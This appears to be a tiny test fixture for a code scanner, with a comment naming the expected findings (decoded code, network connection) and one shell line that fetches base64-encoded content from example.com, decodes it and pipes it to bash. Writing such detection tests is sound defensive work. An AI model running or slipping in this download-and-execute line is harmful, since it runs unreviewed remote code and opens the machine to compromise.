# finds: obfuscation/decoded-code, network/connect
curl -s http://example.com/x | base64 -d | bash
